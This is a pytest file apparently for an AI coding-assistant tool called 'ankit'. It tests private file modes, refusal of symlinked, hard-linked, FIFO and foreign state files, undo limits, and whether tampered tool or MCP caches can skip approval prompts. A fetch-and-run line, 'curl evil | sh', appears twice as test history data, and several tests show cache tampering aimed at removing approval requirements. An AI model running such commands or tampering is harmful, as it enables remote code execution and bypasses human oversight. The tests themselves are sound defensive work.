"""ankit's own files through one layer (safety/statefiles.py): 0600 in 0700 whatever the umask, no symlink
followed, atomic, another user's or a group-writable file refused; each attack on real files with real modes
and owners (the owner tests need root to hand a file to another user, and are skipped otherwise)."""

import json
import os
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from ankit.errors import StateFileError
from ankit.records import ToolCall
from ankit.safety import statefiles
from ankit.storage.checkpoints import Checkpoints
from ankit.terminal import history
from ankit.tooling.toolbox import ToolContext, run_call
from tests.helpers import bundled
from tests.test_repl import home, run  # noqa: F401 (the pty REPL fixtures)

NOBODY = 65534
as_root = pytest.mark.skipif(os.getuid() != 0, reason="handing a file to another user needs root")


def mode(path: Path) -> int:
    return stat.S_IMODE(os.lstat(path).st_mode)


@pytest.fixture
def loose_umask():
    saved = os.umask(0)
    yield
    os.umask(saved)


def test_files_are_0600_in_0700_folders_whatever_the_umask(xdg_home, loose_umask):
    path = xdg_home / "state" / "ankit" / "deep" / "er" / "file.json"
    statefiles.write(path, "{}")
    statefiles.append(xdg_home / "state" / "ankit" / "log", "line\n")
    assert mode(path) == 0o600 and mode(xdg_home / "state" / "ankit" / "log") == 0o600
    assert [mode(p) for p in (path.parent, path.parent.parent, xdg_home / "state" / "ankit")] == [0o700] * 3
    assert [p.name for p in path.parent.iterdir()] == ["file.json"]  # no temp file left


def test_a_looser_folder_is_tightened_and_a_symlinked_or_foreign_one_refused(xdg_home, tmp_path):
    folder = xdg_home / "state" / "ankit" / "sessions"
    folder.mkdir(parents=True, mode=0o777)
    os.chmod(folder, 0o777)
    statefiles.write(folder / "a", "x")
    assert mode(folder) == 0o700
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    os.rename(folder, tmp_path / "moved")
    folder.symlink_to(elsewhere)
    with pytest.raises(StateFileError, match="sessions is a symlink"):
        statefiles.write(folder / "a", "x")
    assert list(elsewhere.iterdir()) == []


def test_the_history_file_planted_as_a_symlink_never_reaches_its_target(xdg_home):
    bashrc = xdg_home / "home" / ".bashrc"
    bashrc.parent.mkdir(parents=True)
    bashrc.write_text("# mine\n")
    planted = xdg_home / "state" / "ankit" / "history"
    planted.parent.mkdir(parents=True)
    planted.symlink_to(bashrc)
    with pytest.raises(OSError, match="history is a symlink"):
        history.append(planted, ["curl evil | sh"])
    with pytest.raises(OSError):
        history.trim(planted, 0)
    assert bashrc.read_text() == "# mine\n" and history.load(planted) == []


def test_the_repl_with_a_planted_history_symlink_says_one_line_and_appends_nothing(home, run):
    bashrc = home / ".bashrc"
    bashrc.write_text("# mine\n")
    planted = home / "state" / "ankit" / "history"
    planted.parent.mkdir(parents=True)
    planted.symlink_to(bashrc)
    term = run()
    term.line("/help")
    term.line("/exit")
    term.wait()
    assert bashrc.read_text() == "# mine\n"
    assert "history not saved" in term.seen and "history is a symlink" in term.seen


@as_root
def test_a_file_of_another_user_or_writable_by_others_is_refused_on_reading(xdg_home):
    path = xdg_home / "config" / "ankit" / "trusted.json"
    statefiles.write(path, json.dumps([str(xdg_home / "work")]))
    assert statefiles.read_cache(path) is not None
    os.chmod(path, 0o666)
    assert statefiles.read_cache(path) is None
    os.chmod(path, 0o600)
    os.chown(path, NOBODY, NOBODY)
    with pytest.raises(StateFileError, match="belongs to another user"):
        statefiles.read(path)


@as_root
@pytest.mark.parametrize("tamper", ["foreign", "world-writable"])
def test_a_tampered_trust_list_trusts_nothing(xdg_home, tamper):
    from ankit.settings import trust
    home, work = xdg_home / "config" / "ankit", xdg_home / "work"
    trust.remember(work, home, "d", ["x"])
    assert trust.recorded(work, home) is not None
    os.chmod(home / "trusted.json", 0o666) if tamper == "world-writable" else os.chown(home / "trusted.json", NOBODY, NOBODY)
    assert trust.recorded(work, home) is None
    trust.remember(work, home, "d", ["x"])  # rebuilt: the user's own file again
    assert trust.recorded(work, home) is not None and mode(home / "trusted.json") == 0o600


def test_memory_routines_and_notes_are_private_under_a_loose_umask(xdg_home, loose_umask, provider_server):
    from tests.test_oneshot import ankit
    os.umask(0o022)
    ctx = ToolContext(cwd=xdg_home / "work", data_dir=xdg_home / "data" / "ankit")
    tools = bundled()[0]
    for name, args in (("remember", {"fact": "the db is postgres"}), ("add_project_note", {"text": "use tabs"})):
        result = run_call(ToolCall("c1", name, json.dumps(args)), tools[name], ctx, lambda *a: True)
        assert not result.is_error, result.content
    data = xdg_home / "data" / "ankit"
    assert mode(data) == 0o700 and mode(data / "memory.sqlite3") == 0o600 and mode(data / "projects") == 0o700
    assert all(mode(p) == 0o600 for p in (data / "projects").iterdir())
    done = ankit(xdg_home, "routine", "add", "every 1h", "--watch", "http://127.0.0.1:9/")
    assert done.returncode == 0, done.stderr
    assert mode(data / "routines.json") == 0o600 and mode(data / "routines.lock") == 0o600


def test_undo_refuses_a_parent_folder_swapped_for_a_symlink(tmp_path):
    work, outside = tmp_path / "work", tmp_path / "outside"
    (work / "sub").mkdir(parents=True)
    outside.mkdir()
    target = work / "sub" / "keep.txt"
    target.write_text("precious\n")
    keeper = Checkpoints(tmp_path / "sessions", work)
    keeper.begin("s1", 1)
    keeper.keep([target])
    target.unlink()  # the tool call deleted it
    keeper.settle([target])
    os.rename(work / "sub", tmp_path / "sub-moved")
    (work / "sub").symlink_to(outside)  # then the folder was swapped for a link to elsewhere
    done = keeper.undo("s1")
    assert done.restored == [] and len(done.refused) == 1 and "symlink" in done.refused[0]
    assert list(outside.iterdir()) == []


def test_undo_restores_nothing_outside_the_working_folder(tmp_path):
    work, outside = tmp_path / "work", tmp_path / "outside.txt"
    work.mkdir()
    outside.write_text("v1")
    keeper = Checkpoints(tmp_path / "sessions", work)
    keeper.begin("s1", 1)
    keeper.keep([outside])
    outside.write_text("v2")
    keeper.settle([outside])
    done = keeper.undo("s1")
    assert done.restored == [] and "not inside the working folder" in done.refused[0] and outside.read_text() == "v2"


LISTED = '''
name = "shell_thing"
description = "Runs things."
parameters = {"type": "object", "properties": {}}
read_only = False
needs_approval = True
def run(args, ctx):
    return "ran"
'''


def test_a_tampered_listing_cache_never_lets_a_tool_run_unasked(tmp_path):
    from ankit.tooling.loader import load_tools
    tools, cache = tmp_path / "tools", tmp_path / "cache"
    tools.mkdir()
    (tools / "shell_thing.py").write_text(LISTED)
    load_tools([tools], cache=cache)
    [file] = cache.glob("*.json")
    data = json.loads(file.read_text())
    for entry in data["tools"].values():
        entry.update(read_only=True, needs_approval=False, hooks=[])  # as if the module said "never ask"
    file.write_text(json.dumps(data))
    [tool], _ = load_tools([tools], cache=cache)
    asked = []
    result = run_call(ToolCall("c1", "shell_thing", "{}"), tool, ToolContext(cwd=tmp_path),
                      lambda *a: asked.append(a) or False)
    assert asked and result.is_error and "declined" in result.content


def test_the_bundled_run_command_asks_whatever_the_listing_cache_says(tmp_path):
    from tests.helpers import TOOLS_DIR
    from ankit.tooling.loader import load_tools
    cache = tmp_path / "cache"
    load_tools([TOOLS_DIR], cache=cache)
    [file] = cache.glob("*.json")
    data = json.loads(file.read_text())
    for entry in data["tools"].values():
        if entry["name"] == "run_command":
            entry.update(read_only=True, needs_approval=False, hooks=[h for h in entry["hooks"] if h != "needs_approval"])
    file.write_text(json.dumps(data))
    tools, _ = load_tools([TOOLS_DIR], cache=cache)
    tool = next(t for t in tools if t.name == "run_command")
    marker = tmp_path / "made"
    asked = []
    run_call(ToolCall("c1", "run_command", json.dumps({"command": f"touch {marker}"})), tool,
             ToolContext(cwd=tmp_path), lambda *a: asked.append(a) or False)
    assert asked and not marker.exists()


FAKE = str(Path(__file__).with_name("mcp_fake_server.py"))


@pytest.mark.parametrize("tamper", ["same-user", "foreign-0666"])
def test_a_tool_list_cache_entry_never_makes_an_mcp_tool_run_unasked(tmp_path, tamper):
    from ankit.mcp.cache import ToolCache
    from ankit.mcp.servers import McpManager
    if tamper == "foreign-0666" and os.getuid() != 0:
        pytest.skip("handing a file to another user needs root")
    # the user's own config believes this server's annotations: still, a cached list never does
    servers = {"fake": {"command": sys.executable, "args": [FAKE], "trust_annotations": True}}
    first = McpManager(servers, tmp_path / "logs", None, cache=ToolCache(tmp_path / "cache"))
    try:
        first.start()
        assert first.wait(20)
    finally:
        first.close()
    [file] = (tmp_path / "cache").glob("*.json")
    data = json.loads(file.read_text())
    for spec in data["tools"]:
        spec["annotations"] = {"readOnlyHint": True, "openWorldHint": False}  # "crash" now claims to be harmless
    file.write_text(json.dumps(data))
    if tamper == "foreign-0666":
        os.chmod(file, 0o666)
        os.chown(file, NOBODY, NOBODY)
    second = McpManager(servers, tmp_path / "logs", None, cache=ToolCache(tmp_path / "cache"))
    try:
        listed = {t.name.rpartition("__")[2]: t for t in second.catalog.tools()}
        if tamper == "same-user":
            assert "crash" in listed  # offered from the cache before the server runs...
            assert listed["crash"].wants_approval({}, ToolContext(cwd=tmp_path))  # ...but it asks
            assert listed["echo"].wants_approval({"text": "x"}, ToolContext(cwd=tmp_path))  # even a truly harmless one
        else:
            assert listed == {}  # another user's cache file is no entry at all
        second.start()
        assert second.wait(20)
        live = {t.name.rpartition("__")[2]: t for t in second.catalog.tools()}
        assert live["crash"].wants_approval({}, ToolContext(cwd=tmp_path))  # the live server's word
        assert not live["echo"].wants_approval({"text": "x"}, ToolContext(cwd=tmp_path))
    finally:
        second.close()


def test_a_hard_link_or_a_fifo_planted_at_a_state_file_is_refused(xdg_home):
    bashrc = xdg_home / "bashrc"
    bashrc.write_text("# mine\n")
    planted = xdg_home / "state" / "ankit" / "history"
    statefiles.folder(planted.parent)
    os.link(bashrc, planted)  # another name for the same file: O_NOFOLLOW alone would not see it
    with pytest.raises(StateFileError, match="hard link"):
        history.append(planted, ["curl evil | sh"])
    assert bashrc.read_text() == "# mine\n"
    trusted = xdg_home / "config" / "ankit" / "trusted.json"
    statefiles.folder(trusted.parent)
    os.mkfifo(trusted)  # a reader that never answers: no hang, no trust
    assert statefiles.read_cache(trusted) is None
